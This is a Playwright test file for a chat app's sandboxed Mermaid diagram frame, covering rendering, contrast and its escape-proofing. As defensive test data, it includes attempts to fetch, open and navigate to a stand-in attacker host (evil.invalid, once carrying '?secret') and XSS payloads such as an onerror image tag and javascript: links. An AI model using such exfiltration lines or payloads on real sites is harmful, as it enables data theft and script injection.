// Diagrams: drawn on demand, in a frame that can do nothing else.
import type { Frame, Page } from '@playwright/test';
import { expect, flaws, test } from '../support/house';
import { look } from '../support/seen';

const FLOW = 'graph TD\nA[Spring] --> B[Brook]\nB --> C[River]';

/** A frame as the page makes it, put there by hand; its messages are kept. */
async function framed(page: Page, url: string): Promise<Frame> {
  await page.goto(url);
  await page.evaluate(() => {
    const told: unknown[] = [];
    Object.assign(window, { told });
    const frame = document.createElement('iframe');
    for (const [name, value] of [['sandbox', 'allow-scripts'], ['src', '/diagram'], ['title', 'Diagram']]) {
      frame.setAttribute(name, value);
    }
    frame.style.width = '600px';
    addEventListener('message', (event) => {
      if (event.source === frame.contentWindow) told.push(event.data);
    });
    document.body.append(frame);
  });
  await expect.poll(() => told(page)).toContainEqual(true);
  return page.frames().find((frame) => frame.url().endsWith('/diagram'))!;
}

const told = (page: Page) => page.evaluate(() => (window as unknown as { told: unknown[] }).told);

const ask = (page: Page, source: string, dark = false) =>
  page.evaluate(
    (order) => document.querySelector<HTMLIFrameElement>('iframe[title=Diagram]')!.contentWindow!.postMessage(order, '*'),
    [source, dark],
  );

/** Runs in the frame, which can look at itself: the texts of its drawing that have less than 4.5 to 1 with what is behind them. */
function pale(): string[] {
  document.body.style.color = 'var(--paper)';
  const paper = getComputedStyle(document.body).color;
  const texts = [...document.querySelectorAll('svg text')].filter((it) => it.textContent!.trim());
  const found: string[] = texts.length ? [] : ['no text at all'];
  // Behind a text is what was drawn before it, where its middle is.
  const shapes = [...document.querySelectorAll<SVGGeometryElement>('svg :is(rect, circle, ellipse, polygon, path)')];
  const solid = shapes.filter((it) => !it.closest('defs, marker') && !/none|rgba\(.*, 0\)/.test(getComputedStyle(it).fill));
  for (const text of texts) {
    const inner = [...text.querySelectorAll('tspan')].filter((it) => it.textContent!.trim()).at(-1) ?? text;
    const { left, top, width, height } = inner.getBoundingClientRect();
    const behind = solid.filter((shape) => {
      const point = new DOMPoint(left + width / 2, top + height / 2).matrixTransform(shape.getScreenCTM()!.inverse());
      const before = shape.compareDocumentPosition(text) & Node.DOCUMENT_POSITION_FOLLOWING;
      return before && shape.isPointInFill(point);
    });
    const under = [paper, ...behind.map((shape) => getComputedStyle(shape).fill)];
    const fill = getComputedStyle(inner).fill;
    const contrast = window.looking.contrast(fill, under);
    if (contrast < 4.5) found.push(`${contrast.toFixed(2)} ${fill} on ${under.at(-1)}: ${text.textContent!.trim()}`);
  }
  return found;
}

test.describe('the frame', () => {
  test('draws, and tells its height', async ({ page, brooklet }) => {
    const frame = await framed(page, brooklet.url);
    await ask(page, FLOW);
    await expect.poll(async () => (await told(page)).find((it) => typeof it === 'number')).toBeGreaterThan(100);
    await expect(frame.locator('svg')).toContainText('Brook');
  });

  for (const [kind, source] of Object.entries({
    flow: `${FLOW}\nsubgraph Sea\nC -->|runs into| D((Deep))\nend`,
    sequence: 'sequenceDiagram\nAlice->>Bob: Hello\nNote over Alice,Bob: They know each other\nloop Daily\nBob-->>Alice: Hi\nend',
    class: 'classDiagram\nAnimal <|-- Duck : is one\nAnimal : +int age\nnote for Duck "can fly"',
    state: 'stateDiagram-v2\n[*] --> Still\nStill --> Moving : push\nstate Moving {\n[*] --> Fast\n}\nMoving --> [*]',
    relations: 'erDiagram\nCUSTOMER ||--o{ ORDER : places\nORDER {\nint id PK\nstring name\n}',
    gantt: 'gantt\ntitle A plan\ndateFormat YYYY-MM-DD\nexcludes weekends\nsection A\nOne :a1, 2026-01-01, 9d\nTwo :crit, after a1, 9d\nThree :done, 2026-01-01, 9d\nFour :active, 2026-01-02, 9d',
    pie: 'pie showData title Pets\n"Dogs" : 30\n"Cats" : 20\n"Hens" : 20\n"Bees" : 10\n"Cows" : 10\n"Goats" : 10',
    git: 'gitGraph\ncommit\nbranch dev\ncommit id: "one"\ncheckout main\ncommit tag: "v1"\nmerge dev',
    timeline: 'timeline\ntitle History\n2002 : One\n2004 : Two : Three\n2010 : Four',
    quadrant: 'quadrantChart\ntitle Reach\nx-axis Low --> High\ny-axis Few --> Many\nquadrant-1 Expand\nquadrant-2 Promote\nA: [0.3, 0.6]',
    bars: 'xychart-beta\ntitle "Sales"\nx-axis [jan, feb, mar]\ny-axis "Euros" 0 --> 9000\nbar [5000, 6000, 7500]\nline [5000, 6000, 7500]',
  })) {
    test(`draws, and can be read: ${kind}`, async ({ page, brooklet }) => {
      for (const dark of [false, true]) {
        const frame = await framed(page, brooklet.url);
        // What a diagram says of colours itself does not count.
        await ask(page, `%%{init: {"theme": "forest", "themeVariables": {"primaryTextColor": "#777777"}}}%%\n${source}`, dark);
        await expect(frame.locator(`html[data-theme=${dark ? 'dark' : 'light'}] svg`).first()).toBeVisible();
        await expect.poll(async () => (await told(page)).some((it) => typeof it === 'number')).toBe(true);
        await look(frame);
        expect(await frame.evaluate(pale)).toEqual([]);
      }
    });
  }

  test('says why there is nothing to see', async ({ page, brooklet }) => {
    await framed(page, brooklet.url);
    await ask(page, 'this is no diagram');
    await expect.poll(() => told(page)).toContainEqual(expect.stringMatching(/No diagram type/));
  });

  test.describe('on its own', () => {
    test.use({ complaints: /Content Security Policy|frame|sandbox|evil\.invalid|Refused|violates/i });

    test('has no origin, and no way out', async ({ page, brooklet }) => {
      const frame = await framed(page, brooklet.url);
      // What the policy holds back was never sent; anything else has an answer, or another reason for having none.
      const sent: string[] = [];
      page.on('response', (response) => sent.push(response.url()));
      page.on('requestfailed', (request) => {
        const why = request.failure()?.errorText ?? '';
        if (!/csp|BLOCKED_BY_CSP/i.test(why)) sent.push(`${request.url()}: ${why}`);
      });
      const outcomes = await frame.evaluate(async (url) => {
        const refused = async (act: () => unknown) => {
          try {
            await act();
            return 'done';
          } catch {
            return 'refused';
          }
        };
        const loads = (tag: string, name: string, to: string) =>
          new Promise<string>((resolve) => {
            const element = document.createElement(tag);
            element.onload = () => resolve('done');
            element.onerror = () => resolve('refused');
            element.setAttribute(name, to);
            document.body.append(element);
            setTimeout(() => resolve('refused'), 500);
          });
        return {
          place: self.origin,
          page: await refused(() => parent.document.title),
          storage: await refused(() => localStorage.length),
          fetch: await refused(() => fetch(`${url}/api/models`)),
          elsewhere: await refused(() => fetch('https://evil.invalid/')),
          // Later: what a test has the browser evaluate may evaluate things itself.
          evaluation: await new Promise<string>((resolve) => {
            setTimeout(() => void refused(() => new Function('return 1')()).then(resolve), 50);
          }),
          script: await loads('script', 'src', `${url}/pkg/brooklet.js`),
          image: await loads('img', 'src', `${url}/favicon.svg`),
          style: await loads('link', 'href', `${url}/pkg/brooklet.css`),
          socket: await refused(
            () =>
              new Promise<void>((resolve, reject) => {
                const socket = new WebSocket(url.replace('http', 'ws'));
                socket.onopen = () => resolve();
                socket.onerror = () => reject(new Error('no'));
              }),
          ),
          window: open('https://evil.invalid/') ? 'done' : 'refused',
        };
      }, brooklet.url);
      const { place, ...rest } = outcomes;
      expect(place).toBe('null');
      expect(Object.entries(rest).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
      // Nor can it go somewhere else and take something along.
      await frame.evaluate(() => void setTimeout(() => (location.href = 'https://evil.invalid/?secret')));
      await page.waitForTimeout(300);
      expect(sent.filter((url) => !url.startsWith(`${brooklet.url}/api/`))).toEqual([]);
      expect(new URL(page.url()).origin).toBe(new URL(brooklet.url).origin);
      // What stands in the frame now is the browser's own page about what it has refused.
      await page.locator('iframe').evaluate((it) => it.remove());
    });

    test('draws nothing that runs', async ({ page, brooklet }) => {
      const frame = await framed(page, brooklet.url);
      await ask(
        page,
        `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%
graph TD
A["<img src=x onerror=alert(1)>"] --> B["<b>bold</b>"]
click A href "javascript:alert(1)"
click B href "https://evil.invalid/" _top`,
      );
      await expect.poll(async () => (await told(page)).length).toBeGreaterThan(1);
      const found = await frame.evaluate(() => ({
        handlers: [...document.querySelectorAll('body *')].flatMap((element) =>
          [...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
        ),
        scripts: document.querySelectorAll('svg script, svg iframe, svg object, svg embed').length,
        links: [...document.querySelectorAll('a')].map((link) => link.getAttribute('xlink:href') ?? link.getAttribute('href') ?? ''),
      }));
      expect(found.handlers).toEqual([]);
      expect(found.scripts).toBe(0);
      expect(found.links.filter((link) => /script:/i.test(link))).toEqual([]);
    });
  });
});

test.describe('in an answer', () => {
  test.use({ model: 'sim:text=echo,rate=4000' });

  test('nothing is loaded before it is asked for; then it is drawn, and its source comes back', async ({ chat, page }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).pathname));
    await chat.ask(`\`\`\`mermaid\n${FLOW}\n\`\`\``);
    await chat.ended();
    const figure = chat.answers.last().locator('figure.code');
    await expect(figure.locator('pre')).toContainText('Brook');
    expect(asked.filter((path) => path.startsWith('/diagram'))).toEqual([]);
    await figure.getByRole('button', { name: 'Draw' }).click();
    const frame = figure.frameLocator('iframe[title=Diagram]');
    await expect(frame.locator('svg')).toContainText('Brook');
    await expect(figure.locator('pre')).toBeHidden();
    const box = await figure.locator('iframe').boundingBox();
    expect(box!.height).toBeGreaterThan(100);
    expect(await flaws(page)).toEqual([]);
    await figure.getByRole('button', { name: 'Source' }).click();
    await expect(figure.locator('pre')).toBeVisible();
    await expect(figure.locator('iframe')).toHaveCount(0);
  });

  test('what is no diagram stays its source, with a sentence', async ({ chat }) => {
    await chat.ask('```mermaid\nthis is no diagram\n```');
    await chat.ended();
    const figure = chat.answers.last().locator('figure.code');
    await figure.getByRole('button', { name: 'Draw' }).click();
    await expect(figure.getByText('The diagram could not be drawn:')).toBeVisible();
    await expect(figure.locator('pre')).toBeVisible();
    await expect(figure.locator('iframe')).toHaveCount(0);
  });
});
